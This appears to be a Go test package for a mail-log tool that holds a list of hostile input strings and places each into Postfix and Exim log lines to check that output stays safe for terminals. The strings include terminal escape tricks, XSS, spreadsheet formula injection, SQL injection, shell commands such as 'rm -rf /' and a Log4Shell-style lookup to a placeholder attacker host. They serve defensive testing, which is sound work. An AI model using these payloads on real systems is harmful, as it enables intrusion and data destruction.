// Package hostile holds texts for tests: texts that a remote server could get logged in order to
// attack a terminal, a page, a spreadsheet, a database or a shell.
package hostile

import (
	"fmt"
	"strings"
	"unicode/utf8"
)

// Texts are a hundred texts that a remote server could get logged, or that could be in a file that
// somebody was persuaded to use.
var Texts = []string{
	// Terminals: colour, title, clipboard, cursor, answers, bells.
	"\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;cm0gLXJmIC8=\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
	"\x1b[6n", "\x1b[c", "\x1bP$q\"p\x1b\\", "\x1b[?1049h", "\x1b[8m", "\x1bc", "\x9b31m", "\u009b2J", "\u009d0;x\u009c", "\a\a\a", "\b\b\b\b", "\x7f\x7f", "\x0e\x0f", "\x00", "a\x00b",
	"one\rtwo", "one\vtwo", "one\ftwo", "\x1b", "\xc2", "\xff\xfe\xfd", "\xc0\xaf", "\xed\xa0\x80", "\xf8\x88\x80\x80\x80",
	// Letters that mislead: other direction, no width, look-alikes, heaps.
	"\u202egnp.exe", "\u2066\u2067\u2069", "\u200b\u200c\u200d", "\ufeffbom", "\u2028\u2029", "\u00ad", "аррӏе.com", strings.Repeat("\u0301", 200), "\U000e0041\U000e0042", "\ufff9\ufffa\ufffb", "👩‍👩‍👧‍👦", "ﷺ",
	// HTML and Markdown.
	"<script>alert(1)</script>", "</td></table><script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "<!--", "]]>", "&lt;script&gt;", "&#x3c;b&#x3e;", "</title><h1>", "</style><b>",
	"[x](javascript:alert(1))", "![x](http://evil.example/p.png)", "| a | b |", "`code`", "# heading", "<http://evil.example>", "\\|", "***", "<iframe src=//evil.example>",
	// Spreadsheets.
	"x;=cmd|' /C calc'!A0", "x; \"=1\"", "＝1+1", "x;－1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "+1+1", "-2+3", "@SUM(1+1)", "=1+1", "\t=1", "\r=1", "\"quoted\"", "a,b;c", "a\tb", "'", "''", "=", "+", "@", "-",
	// SQL.
	"'; DROP TABLE attempts; --", "x' OR '1'='1", "\" OR 1=1", "%' --", "%", "_", "\\", "';SELECT load_extension('x')--", "NULL", "0x41", "?1", ":name",
	// Shells, formats, paths.
	"$(touch /tmp/bouncelog-owned)", "`id`", "; rm -rf /", "| mail root", "&& reboot", "%s%s%n", "%x", "{{.}}", "${jndi:ldap://evil.example/a}", "../../../etc/passwd", "/dev/zero", "-o/tmp/x", "--help", "~root",
	// What bouncelog itself writes and reads.
	"{addr} {n} {host}", "{brace}", "(others)", "other", "status=sent (250 Ok)", "to=<a@b.example>, relay=x[1.2.3.4]:25, dsn=2.0.0, status=sent (250)", "message repeated 1000000000 times: [ x ]", "<>", "@", "a@", "@b", "a@b@c",
	// Sizes and numbers.
	strings.Repeat("a", 100_000), strings.Repeat("<", 5_000), strings.Repeat("(", 5_000), strings.Repeat("a.", 5_000), strings.Repeat("a@", 2_000), "99999999999999999999", "-1", "1e400", "NaN", "٣", "²",
	// Header and line injection.
	"x\\nBcc: all@evil.example", "x\\r\\n.\\r\\n", "=?utf-8?q?=0d=0aBcc:?=", "\n\nNov 23 10:00:00 mx1 postfix/smtp[1]: 4A1B2C3D4E: forged",
}

// Lines puts a text at every place of a log line that a remote server controls.
func Lines(i int, s string) string {
	s = strings.ReplaceAll(s, "\n", "\\n") // a log has it so
	id := fmt.Sprintf("4A1B2C%04X", i)
	exim := fmt.Sprintf("1vAAAA-%06d-00", i)
	return strings.Join([]string{
		"Nov 23 10:00:00 mx1 postfix/cleanup[1]: " + id + ": message-id=<" + s + ">",
		"Nov 23 10:00:00 mx1 postfix/qmgr[1]: " + id + ": from=<" + s + "@sender.example>, size=1, nrcpt=1 (queue active)",
		"Nov 23 10:00:01 mx1 postfix/smtp[1]: " + id + ": to=<" + s + "@rcpt.example>, relay=mx.example[192.0.2.1]:25, delay=1, delays=0/0/0/1, dsn=5.7.1, status=bounced (host mx.example[192.0.2.1] said: 550 5.7.1 " + s + " (in reply to RCPT TO command))",
		"Nov 23 10:00:02 mx1 postfix/smtp[1]: " + id + ": to=<a@" + s + ">, relay=" + s + "[192.0.2.1]:25, delay=1, delays=0/0/0/1, dsn=4.0.0, status=deferred (" + s + ")",
		"Nov 23 10:00:02 mx1 postfix/smtp[1]: " + id + ": to=<b@ok.example>, orig_to=<" + s + ">, relay=none, delay=1, delays=0/0/0/1, dsn=5.0.0, status=" + s,
		"Nov 23 10:00:03 " + s + " postfix/smtp[1]: " + id + ": to=<c@ok.example>, relay=none, delay=" + s + ", delays=0/0/0/1, dsn=" + s + ", status=bounced (x)",
		"Nov 23 10:00:03 mx1 " + s + "[1]: " + s,
		"Nov 23 10:00:04 mx1 postfix/local[1]: warning: " + s,
		"Nov 23 10:00:04 mx1 postfix/local[1]: " + id + ": to=<d@ok.example>, relay=local, delay=1, delays=0/0/0/1, dsn=5.1.1, status=bounced (unknown user: \"d\")",
		"2026-11-23 10:00:04 " + exim + " Warning: " + s,
		"2026-11-23 10:00:04 " + exim + " ** " + s + "@exim.example R=dns T=remote_smtp H=" + s + " [192.0.2.1]: SMTP error from remote mail server after RCPT TO:<" + s + ">: 550 " + s,
		"2026-11-23 10:00:04 " + exim + " == x@exim.example R=" + s + " T=" + s + " defer (" + s + "): " + s,
		"2026-11-23 10:00:04 " + exim + " <= " + s + " H=" + s + " [192.0.2.9] P=esmtp S=1 id=" + s,
		s,
	}, "\n") + "\n"
}

// Unclean describes what in an output must not reach a terminal; "" if nothing.
func Unclean(s string) string {
	if !utf8.ValidString(s) {
		return "invalid UTF-8"
	}
	for _, r := range s {
		switch {
		case r == '\n', r == '\t':
		case r < 0x20, 0x7f <= r && r < 0xa0:
			return fmt.Sprintf("the control character %U", r)
		case 0x202a <= r && r <= 0x202e, 0x2066 <= r && r <= 0x2069, r == 0x2028, r == 0x2029:
			return fmt.Sprintf("the character %U", r)
		}
	}
	return ""
}
